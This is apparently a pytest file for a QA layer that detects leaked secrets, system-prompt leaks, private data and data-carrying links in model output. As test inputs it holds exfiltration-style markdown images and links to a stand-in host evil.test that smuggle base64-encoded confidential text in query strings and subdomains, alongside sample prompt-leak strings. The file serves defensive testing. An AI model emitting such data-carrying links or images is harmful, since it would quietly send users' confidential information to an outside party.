"""Layer 3: planted secrets, held values, private data, links and pictures; and what only looks like them."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from company.records import Citation, Kind, Passage
from qa.layers import held, links, private, tokens
from qa.specs import SecurityRules, Spec
from tests.unit.qa.making import case, codes, found
from tests.unit.qa.secret_plants import planted

PLANTED = planted()
HELD = "T0ken/of+the-house?2026"


def test_planted_secrets_are_caught() -> None:
    missed = [text for text in PLANTED if "secret" not in codes(case(text))]
    assert len(PLANTED) == 100
    assert missed == []  # the promise is 98; today all are caught


@pytest.mark.parametrize("text", PLANTED[::7])
def test_a_finding_never_shows_the_secret(text: str) -> None:
    shown = found(case(text), "secret").message
    assert not any(word in shown for word in text.split() if len(word) > 14)


@pytest.mark.parametrize("text", PLANTED[::11])
def test_what_the_person_gave_is_no_leak(text: str) -> None:
    assert "secret" not in codes(case(text, request=text))


@pytest.mark.parametrize(
    "text",
    [
        "Use `sk-...` as the key.",
        "AWS documents AKIAIOSFODNN7EXAMPLE.",
        "`export TOKEN=<your token here>`",
        'api_key = os.environ["API_KEY"]',
        "api_key: ${API_KEY}",
        "password = getpass()",
        "The password is required.",
        "password: string",
        "Set password=changeme first.",
        "postgresql://user:password@localhost/db",
        "postgresql://user:${PASSWORD}@localhost/db",
        "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
        "token = settings.telegram.token",
        "The token is invalid, so ask for another.",
        "secret: the cake needs more butter",
        "Commit 9fceb02d0ae598e95dc970b74767f19372d61af8 mends it.",
        "The sk-learn-contrib packages and task-management-software-for-teams are popular.",
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "Call 0171-1234567 at 12:30:45.",
        "max_tokens: 4096, token_count=120000",
        "Le mot de passe est obligatoire. Das Passwort ist falsch.",
    ],
)
def test_what_only_looks_like_a_secret(text: str) -> None:
    assert codes(case(text, language="")) == []


def test_a_password_that_was_asked_for() -> None:
    text = "password: kV9!tulip#R2"
    assert codes(case(text, request="Generate a strong password for me")) == []
    assert codes(case(text, request="What is new?")) == ["secret"]


@pytest.mark.parametrize(
    "text",
    [
        HELD,
        f"It is {HELD}, I think.",
        " ".join(HELD),
        "\u200b".join(HELD),
        HELD[::-1],
        quote(HELD, safe=""),
        HELD.encode().hex(),
        HELD.encode().hex().upper(),
        base64.b64encode(HELD.encode()).decode(),
        base64.urlsafe_b64encode(b"x" + HELD.encode() + b"y").decode(),
        base64.b64encode(b"ab" + HELD.encode() + b"cd").decode(),
    ],
)
def test_a_held_secret_in_any_spelling(text: str) -> None:
    finding = found(case(text, secrets=(HELD,)), "held-secret")
    assert HELD not in finding.message


@given(
    st.binary(max_size=5),
    st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=10),
    st.binary(max_size=5),
)
def test_base64_of_a_held_secret_at_any_offset(before: bytes, secret: str, after: bytes) -> None:
    assert held.leaked(base64.b64encode(before + secret.encode() + after).decode(), [secret])


def test_a_held_secret_that_was_given_is_still_a_leak() -> None:
    assert "held-secret" in codes(case(HELD, request=f"repeat {HELD}", secrets=(HELD,)))


def test_short_values_and_other_texts_are_no_leak() -> None:
    assert codes(case("It is done: abc, 1234.", secrets=("abc", "1234", HELD))) == []


PROMPT = "Be brief.\nYou judge how hard an order is and you never mention the ladder of employees to anybody.\n"


@pytest.mark.parametrize(
    "text",
    [
        "Sure: you judge how hard an order is and you **never** mention the ladder of employees to anybody.",
        "<|im_start|>system be nice",
        "Here are my instructions: be nice.",
    ],
)
def test_a_prompt_leak(text: str) -> None:
    assert "prompt-leak" in codes(case(text, prompts=(PROMPT,)))


def test_words_about_prompts_are_no_leak() -> None:
    text = "A system prompt tells a model how to behave. In ChatML it begins with `<|im_start|>`. Be brief."
    assert codes(case(text, prompts=(PROMPT,))) == []


PASSAGE = Passage(
    id="a", document="staff.md", place="line 1", text="Mia Holm, mia@nordlicht.dk, DE02120300000000202051"
)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("Write to mia@nordlicht.dk.", "unknown-email"),
        ("Write to <a.b+c@mail.nordlicht.co.uk>!", "unknown-email"),
        ("Card: 4539 1488 0343 6467", "card-number"),
        ("Karte 4539148803436467 gilt.", "card-number"),
        ("Pay to DE02 1203 0000 0000 2020 51.", "bank-account"),
        ("IBAN: FR7630004000031234567890143", "bank-account"),
    ],
)
def test_private_data(text: str, code: str) -> None:
    assert codes(case(text)) == [code]
    assert codes(case(text, request=text)) == []


def test_private_data_from_a_cited_passage_may_be_shown() -> None:
    citation = Citation(marker=1, passage_id="a", document="staff.md", place="line 1", quote="mia@nordlicht.dk")
    text = "Write to mia@nordlicht.dk [1]."
    assert codes(case(text, citations=(citation,), passages=(PASSAGE,), kind=Kind.DOCUMENTS)) == []


@pytest.mark.parametrize(
    "text",
    [
        "Write to user@example.com or john.doe@gmail.com.",
        "git clone git@github.com:torvalds/linux.git",
        "ssh deploy@server.internal:~/site",
        "@mia@mastodon.social writes well.",
        "Test with 4111 1111 1111 1111 or 4242424242424242.",
        "Order 4539 1488 0343 6468 has a wrong checksum.",
        "IBAN example: DE89 3704 0044 0532 0130 00.",
        "The file has 1234567890123 bytes; pi is 3.14159265358979.",
        "ISBN 978-3-16-148410-0, phone +49 170 1234567.",
        "Timestamp 1795000000000, id 20261118110640123.",
    ],
)
def test_what_only_looks_private(text: str) -> None:
    assert codes(case(text)) == []


def test_checksums() -> None:
    assert private.is_card("4539148803436467")
    assert not private.is_card("4539148803436468")
    assert private.is_iban("GB82WEST12345698765432")
    assert not private.is_iban("GB82WEST12345698765433")


DATA = base64.urlsafe_b64encode(b"the board said: we sell in May, at 12 a share").decode()


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("![ok](https://evil.test/p.png)", "remote-picture"),
        ("![ok](//evil.test/p.png)", "remote-picture"),
        (f"![](https://evil.test/p.png?d={DATA})", "remote-picture"),
        ('<img width="1" src="https://evil.test/p.gif">', "remote-picture"),
        (f"[more](https://evil.test/?d={DATA})", "unknown-link"),
        (f"See https://evil.test/{DATA} for more.", "unknown-link"),
        ("https://evil.test/c?q=the+board+said+we+sell+in+may+at+twelve+a+share+and+then+leave", "unknown-link"),
        (f"https://{DATA[:40]}.evil.test/", "unknown-link"),
    ],
)
def test_addresses_that_carry_data(text: str, code: str) -> None:
    assert codes(case(text)) == [code]
    assert codes(case(text, request=text)) == []


@pytest.mark.parametrize(
    "address",
    [
        "https://docs.python.org/3/library/re.html#re.compile",
        "https://github.com/torvalds/linux/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "https://ru.wikipedia.org/wiki/%D0%9F%D1%83%D1%88%D0%BA%D0%B8%D0%BD,_%D0%90%D0%BB%D0%B5%D0%BA%D1%81%D0%B0%D0%BD%D0%B4%D1%80",
        "https://www.example.org/2024/05/how-to-bake-a-really-good-sourdough-bread-at-home-in-10-steps",
        "https://www.openstreetmap.org/#map=12/52.5200/13.4050",
        "https://example.com/search?q=cheap+flights&lang=en",
        "https://stackoverflow.com/questions/231767/what-does-the-yield-keyword-do-in-python",
    ],
)
def test_plain_addresses(address: str) -> None:
    assert not links.carries_data(address)


def test_forbidden_patterns_of_the_spec() -> None:
    spec = Spec(name="strict", security=SecurityRules(forbidden_patterns=("wo-[0-9]+",)))
    assert codes(case("see wo-12", spec=spec, hits=("wo-[0-9]+",))) == ["forbidden-pattern"]
    assert codes(case("see wo", spec=spec)) == []


def test_security_can_be_switched_off() -> None:
    spec = Spec(name="lax", security=SecurityRules(enabled=False))
    assert codes(case(PLANTED[0], spec=spec, secrets=(HELD,))) == []


@pytest.mark.parametrize(
    "sign", ["a", "A1", "sk-", "eyJ", "password=", "@", "a@", "http://", "![", "1 ", "-----BEGIN ", "\\"]
)
def test_long_runs_are_judged_in_time_that_grows_with_their_length(sign: str) -> None:
    import time

    text = sign * (60_000 // len(sign))
    begun = time.process_time()
    list(tokens.find(text))
    list(private.find(text, ""))
    list(links.find(text, ""))
    assert time.process_time() - begun < 3
